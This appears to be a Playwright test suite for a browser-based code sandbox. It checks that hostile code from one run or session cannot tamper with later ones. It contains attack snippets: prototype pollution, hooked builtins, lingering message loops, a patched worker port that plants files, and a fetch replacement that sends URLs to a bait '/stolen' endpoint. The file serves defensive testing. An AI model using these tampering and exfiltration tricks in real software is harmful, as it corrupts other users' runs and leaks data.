// One run cannot reach the next, and one session cannot reach another (issue 31). Each attempt
// runs hostile code with `node`, then a plain victim script: the victim's output, exit code and
// stored files must be exactly what the victim alone would give, and the bait server hears nothing.
import type { Page } from '@playwright/test'
import { hostileTest as test, expect, type Bait } from '../support/bait.ts'
import { openDemo, openWithMock } from '../support/app.ts'
import { commandReply, finish, roleChunk, textReply, toolCallChunks, usage } from '../support/chunks.ts'
import { MARKED_SANDBOX, SANDBOX, markSandbox, runCommand, writeWorkspaceFiles } from '../support/run-code.ts'
import { readWorkspaceFile } from '../support/workspace.ts'
import { pressKey, runSlashCommand, submitPrompt, typeInTerminal, waitForScreen } from '../support/screen.ts'
import { toolResultText } from '../support/tool-messages.ts'

test.setTimeout(120_000)

/** Uses what attacks reach for: arrays, JSON, stdout, fetch, path, files in and outside the root. */
const VICTIM = `const fs = require('fs')
const path = require('path')
const list = []
list.push('a')
process.stdout.write('plain\\n')
fetch('http://127.0.0.1:9/').then(() => 'fetched', (error) => error.message).then((fetched) => {
  console.log(JSON.stringify({
    list,
    tmp: fs.existsSync('/tmp/left.txt'),
    home: fs.existsSync('/home/user/left.txt'),
    leftover: typeof globalThis.leftover,
    polluted: ({}).polluted ?? null,
    join: path.join('a', 'b'),
    data: fs.readFileSync('data.txt', 'utf8'),
    fetched,
  }))
  fs.writeFileSync('out.txt', 'victim\\n')
})
`
const VICTIM_STDOUT = `plain\n${JSON.stringify({ list: ['a'], tmp: false, home: false, leftover: 'undefined', polluted: null, join: 'a/b', data: 'data\n', fetched: 'fetch failed' })}\n`

/**
 * Code that stays alive after its run (a message loop, which no run's timer accounting sees) and
 * acts on the first later run it meets: `act(process)` is given that run's process.
 */
const lingering = (act: string) => `const mine = globalThis.process
const loop = () => {
  const other = globalThis.process
  if (other && other !== mine && other.stdout) { try { (${act})(other) } catch {} }
  const channel = new MessageChannel()
  channel.port1.onmessage = loop
  channel.port2.postMessage(0)
}
loop()
`

type Attempt = { name: string; attack: (bait: Bait) => string }

const ATTEMPTS: Attempt[] = [
  {
    name: 'console replaced by a getter that cannot be redefined',
    attack: () => `Object.defineProperty(globalThis, 'console', { configurable: false, get: () => ({ log: (...args) => process.stdout.write('HOOKED ' + args.join(' ') + '\\n'), error() {} }) })`,
  },
  {
    name: 'Array.prototype.push rewrites what is pushed',
    attack: () => `const push = Array.prototype.push
Array.prototype.push = function (...items) { return push.apply(this, items.map((item) => (item === 'a' ? 'HOOKED' : item))) }`,
  },
  {
    name: 'JSON.stringify rewrites what is printed',
    attack: () => `const stringify = JSON.stringify
JSON.stringify = (...args) => String(stringify(...args)).replace('"list"', '"HOOKED"')`,
  },
  {
    name: 'process.stdout.write hooked through the shared Buffer.from and EventEmitter',
    attack: () => `const from = Buffer.from
Buffer.from = function (value, ...rest) { return from.call(this, typeof value === 'string' ? value.replace('plain', 'HOOKED') : value, ...rest) }
Object.getPrototypeOf(process.stdout).write = () => true`,
  },
  {
    name: 'globalThis.fetch replaced for good, sending to the bait',
    attack: (bait) => `const real = fetch
Object.defineProperty(globalThis, 'fetch', { configurable: false, writable: false, value: (url) => real('${bait.url}/stolen?' + url).catch(() => ({ ok: true })) })`,
  },
  {
    name: 'TextEncoder.prototype.encode rewrites every byte of output',
    attack: () => `const encode = TextEncoder.prototype.encode
TextEncoder.prototype.encode = function (text) { return encode.call(this, String(text).replace('plain', 'HOOKED')) }`,
  },
  {
    name: 'TextDecoder.prototype.decode rewrites the files the next run reads',
    attack: () => `const decode = TextDecoder.prototype.decode
TextDecoder.prototype.decode = function (...args) { return decode.apply(this, args).replace('data', 'HOOKED') }`,
  },
  {
    name: 'a pending setTimeout / setInterval (unref) fires in the next run',
    attack: () => `setInterval(() => { globalThis.leftover = 'tick'; process.stdout.write('TICK\\n') }, 50).unref()
setTimeout(() => { Array.prototype.push = () => 0 }, 50).unref()
if (globalThis.scheduler) scheduler.postTask(() => { globalThis.leftover = 'task' }, { delay: 50 })`,
  },
  {
    name: 'code kept alive by a message loop writes into the next run',
    attack: () =>
      lingering(`(other) => {
  other.stdout.write('TAMPERED\\n')
  globalThis.leftover = 'alive'
  Object.prototype.polluted = 'late'
}`),
  },
  {
    name: 'files written to /tmp and the home folder are read by the next run',
    attack: () => `const fs = require('fs')
fs.writeFileSync('/tmp/left.txt', 'left')
try { fs.mkdirSync('/home/user', { recursive: true }); fs.writeFileSync('/home/user/left.txt', 'left') } catch {}`,
  },
  {
    name: 'a patched builtin module (path.join) and require cache',
    attack: () => `const path = require('path')
path.join = () => 'HOOKED'
try { require('module')._cache = new Proxy({}, { get: () => ({ exports: { join: () => 'HOOKED' } }) }) } catch {}
if (require.cache) require.cache['path'] = { exports: path }`,
  },
  {
    name: 'a hook on the worker port rewrites the next run\'s file changes',
    attack: () => `const post = MessagePort.prototype.postMessage
let first = null
MessagePort.prototype.postMessage = function (message, ...rest) {
  if (message && typeof message === 'object' && 'id' in message) {
    first ??= message.id
    if (message.id !== first && message.type === 'done') {
      message.result.changes['/workspace/pwned.txt'] = new TextEncoder().encode('pwned')
      message.result.changes['/workspace/out.txt'] = new TextEncoder().encode('HOOKED\\n')
    }
  }
  return post.call(this, message, ...rest)
}`,
  },
  {
    name: 'Object.prototype pollution and a global that cannot be removed',
    attack: () => `Object.prototype.polluted = 'yes'
Object.defineProperty(globalThis, 'leftover', { value: 'kept', configurable: false, writable: false })`,
  },
]

for (const attempt of ATTEMPTS) {
  test(`run residue: ${attempt.name} — the next run sees none of it`, async ({ page, bait }) => {
    await openDemo(page)
    // .cjs: the demo project's package.json makes .js files ES modules.
    await writeWorkspaceFiles(page, { 'attack.cjs': `${attempt.attack(bait)}\nprocess.stdout.write('armed\\n')\n`, 'victim.cjs': VICTIM, 'data.txt': 'data\n' })
    // The attack ran, in full: it is a real attempt. (Its own timer may tick before its run has
    // ended on a busy machine, as in Node; what matters is that the victim's runs never see it.)
    expect(await runCommand(page, 'node attack.cjs')).toEqual({ stdout: expect.stringContaining('armed\n'), stderr: '', exitCode: 0 })
    expect(await runCommand(page, 'node victim.cjs')).toEqual({ stdout: VICTIM_STDOUT, stderr: '', exitCode: 0 })
    // And twice: a hook waiting for a later run meets none either.
    expect(await runCommand(page, 'node victim.cjs')).toEqual({ stdout: VICTIM_STDOUT, stderr: '', exitCode: 0 })
    expect(await readWorkspaceFile(page, 'out.txt')).toBe('victim\n')
    expect(await readWorkspaceFile(page, 'data.txt')).toBe('data\n')
    expect(await readWorkspaceFile(page, 'pwned.txt')).toBeNull()
    expect(await runCommand(page, 'ls /tmp /home/user 2>&1; ls')).toMatchObject({ stdout: expect.not.stringMatching(/left\.txt|pwned/) })
  })
}

test('node exit codes are what Node gives', async ({ page }) => {
  await openDemo(page)
  const cases: Array<[string, number]> = [
    [`node -e 'process.exit(300)'`, 44],
    [`node -e 'process.exit(-1)'`, 255],
    [`node -e 'process.exitCode = 7'`, 7],
    [`node -e 'throw new Error("boom")'`, 1],
  ]
  const codes: Array<[string, number]> = []
  for (const [command] of cases) codes.push([command, (await runCommand(page, command)).exitCode])
  expect(codes).toEqual(cases)
})

test('python3 exit codes are what CPython gives, and os._exit ends only the run', async ({ page }) => {
  test.setTimeout(300_000)
  await openDemo(page)
  // A .py file starts Python loading; on a busy machine its first load can outlast one command's limit.
  await writeWorkspaceFiles(page, { 'warm.py': 'pass\n' })
  await expect.poll(async () => (await runCommand(page, `python3 -c 'pass'`)).exitCode, { timeout: 240_000 }).toBe(0)
  const cases: Array<[string, number]> = [
    [`python3 -c 'import os; os._exit(5)'`, 5],
    [`python3 -c 'import os; print("before", flush=True); os._exit(300)'`, 44],
    [`python3 -c 'import sys; sys.exit(300)'`, 44],
    [`python3 -c 'raise ValueError("boom")'`, 1],
  ]
  const codes: Array<[string, number]> = []
  for (const [command] of cases) codes.push([command, (await runCommand(page, command)).exitCode])
  expect(codes).toEqual(cases)
  expect(await runCommand(page, `python3 -c 'print("after")'`)).toMatchObject({ stdout: 'after\n', exitCode: 0 })
})

/** The workspace's own view of a session switch, as the session bridge tells it. */
const useSession = (page: Page, id: string, how: 'new' | 'fork' = 'new') =>
  page.evaluate(([id, how]) => (window as unknown as { fxterm: { workspace: { useSession(id: string, how: string): Promise<void> } } }).fxterm.workspace.useSession(id, how), [id, how] as const)

test("the page's first session does not stop a run its first turn started", async ({ page }) => {
  await openDemo(page)
  const result = page.evaluate(() =>
    (window as unknown as { fxterm: { workspace: { exec(input: object): Promise<{ exitCode: number; stdout: string }> } } }).fxterm.workspace.exec({
      command: `node -e 'setTimeout(() => { require("fs").writeFileSync("first.txt", "kept"); console.log("done") }, 1000)'`,
      cwd: '/workspace',
      signal: new AbortController().signal,
      timeoutMs: 30_000,
      outputLimitBytes: 65_536,
    }),
  )
  await page.locator(`${SANDBOX}[data-running]`).waitFor({ state: 'attached' })
  // The first commit of a new page's session is told once written, while its first run goes on;
  // the session bridge names a page's first session as a fork of what the page holds.
  await useSession(page, 'spec-first-session', 'fork')
  expect(await result).toMatchObject({ exitCode: 0, stdout: 'done\n' })
  expect(await readWorkspaceFile(page, 'first.txt')).toBe('kept')
})

test('a run in flight when the session switches is stopped, and its late write lands nowhere', async ({ page }) => {
  await openDemo(page)
  // The page's first session: its own runs go on (nothing of another session is left behind).
  await useSession(page, 'spec-first-session')
  const result = page.evaluate(() =>
    (window as unknown as { fxterm: { workspace: { exec(input: object): Promise<{ exitCode: number; stdout: string }> } } }).fxterm.workspace.exec({
      command: `node -e 'console.log("started"); setTimeout(() => require("fs").writeFileSync("late.txt", "from the old session"), 4000)'`,
      cwd: '/workspace',
      signal: new AbortController().signal,
      timeoutMs: 30_000,
      outputLimitBytes: 65_536,
    }),
  )
  await page.locator(`${SANDBOX}[data-running]`).waitFor({ state: 'attached' })
  await markSandbox(page)
  await useSession(page, 'spec-other-session')
  expect((await result).exitCode).toBe(130)
  // The frame it ran in is gone; the new session's first run opens another and sees no late file.
  await expect(page.locator(MARKED_SANDBOX)).toHaveCount(0)
  expect(await runCommand(page, `node -e 'console.log(require("fs").existsSync("late.txt"))'`)).toMatchObject({ stdout: 'false\n', exitCode: 0 })
  expect(await readWorkspaceFile(page, 'late.txt')).toBeNull()
})

test('code of one session neither tampers with the next after /new nor hands its files back on /resume', async ({ page, mock }) => {
  // Session A leaves code running that waits for a later run: it writes into that run's output,
  // plants a file in its changes, and keeps a copy of the files it writes for A to read later.
  const LINGER = lingering(`(other) => {
  other.stdout.write('TAMPERED\\n')
  const post = MessagePort.prototype.postMessage
  MessagePort.prototype.postMessage = function (message, ...rest) {
    if (message && message.type === 'done') {
      globalThis.__stash = Object.keys(message.result.changes)
      message.result.changes['/workspace/planted.txt'] = new TextEncoder().encode('planted')
    }
    return post.call(this, message, ...rest)
  }
}`)
  await mock.script(
    { chunks: [roleChunk(), ...toolCallChunks({ id: 'call_w', name: 'write_file', args: { path: 'linger.cjs', content: `${LINGER}\nconsole.log('armed')\n` } }), finish('tool_calls'), usage()] },
    { chunks: commandReply('call_a', 'node linger.cjs') },
    { chunks: textReply('A armed.') },
    { chunks: commandReply('call_b', `node -e 'require("fs").writeFileSync("b-secret.txt", "B only"); console.log("b ran")'`) },
    { chunks: textReply('B done.') },
    { chunks: commandReply('call_a2', `node -e 'console.log("stash:", JSON.stringify(globalThis.__stash ?? null))'`) },
    { chunks: textReply('A again.') },
  )
  await openWithMock(page, mock)
  await submitPrompt(page, 'first topic')
  await waitForScreen(page, 'A armed.')
  expect(toolResultText((await mock.requests()).at(-1), 'call_a')).toContain('armed')

  await runSlashCommand(page, '/new')
  await submitPrompt(page, 'second topic')
  await waitForScreen(page, 'B done.')
  const b = toolResultText((await mock.requests()).at(-1), 'call_b')
  expect(b).toContain('b ran')
  expect(b).not.toContain('TAMPERED')
  expect(await readWorkspaceFile(page, 'b-secret.txt')).toBe('B only')
  expect(await readWorkspaceFile(page, 'planted.txt')).toBeNull()

  await runSlashCommand(page, '/resume')
  await waitForScreen(page, 'Resume a session')
  await typeInTerminal(page, 'first')
  await pressKey(page, 'Enter')
  await waitForScreen(page, 'Session resumed: first topic')
  await expect.poll(() => readWorkspaceFile(page, 'linger.cjs')).not.toBeNull()
  await submitPrompt(page, 'again')
  await waitForScreen(page, 'A again.')
  // What A's model receives: nothing of B's.
  const a2 = toolResultText((await mock.requests()).at(-1), 'call_a2')
  expect(a2).toContain('stash: null')
  expect(a2).not.toContain('b-secret')
  expect(await readWorkspaceFile(page, 'b-secret.txt')).toBeNull()
  expect(await readWorkspaceFile(page, 'planted.txt')).toBeNull()
})
